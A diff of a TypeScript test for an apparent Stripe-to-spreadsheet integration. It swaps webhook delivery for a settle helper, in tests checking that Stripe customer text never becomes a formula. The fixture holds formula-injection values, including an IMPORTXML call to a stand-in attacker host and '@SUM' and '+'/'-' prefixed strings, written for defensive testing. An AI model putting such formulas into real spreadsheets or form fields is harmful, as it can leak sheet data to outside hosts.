@@ -4,7 +4,7 @@
 // with plausible arguments, and nothing may be read or changed. Then: text from Stripe never becomes a
 // formula in the sheet.
 import type { Emulator, RunAs } from '../../emulator/src';
-import { addLessonPack, addRow, COLLECT, install, records } from './harness';
+import { addLessonPack, addRow, COLLECT, install, records, deliverAndSettle } from './harness';
 
 const ALICE = 'alice@example.com';
 
@@ -45,7 +45,7 @@ function world(): World {
     email: ALICE,
     name: 'Alice Dupont',
   });
-  emu.deliverWebhook(String(event.id));
+  deliverAndSettle(emu, String(event.id));
   emu.run('carnetCreatePaymentRequest', [{ email: 'bob@example.com', name: 'Bob Martin', items: [{ code: 'PACK10', quantity: 1 }] }]);
   const body = emu.mail.sentTo(ALICE)[0].body;
   const token = /\?d=([A-Za-z0-9_-]{43})/.exec(body)?.[1] ?? '';
@@ -226,9 +226,9 @@ describe('text from Stripe that looks like a formula', () => {
       address: { line1: '=IMPORTXML("http://evil.example","//a")', line2: '-2+3', postal_code: '75011', city: '+Paris' },
     };
     const { event } = emu.stripe.pay({ lineItems: [{ price, quantity: 1 }], email: ALICE, session: COLLECT, ...customer });
-    emu.deliverWebhook(String(event.id));
+    deliverAndSettle(emu, String(event.id));
     const { event: second } = emu.stripe.pay({ lineItems: [{ price, quantity: 1 }], email: 'bob@example.com', name: '-1+1', phone: '0612345678' });
-    emu.deliverWebhook(String(second.id));
+    deliverAndSettle(emu, String(second.id));
 
     const alice = records(emu, 'Clients').find((r) => r['E-mail'] === ALICE);
     expect(alice).toMatchObject({ Nom: customer.name, Téléphone: '+33 6 12 34 56 78', Société: '@SUM(Clients!C:C)', Solde: 10 });
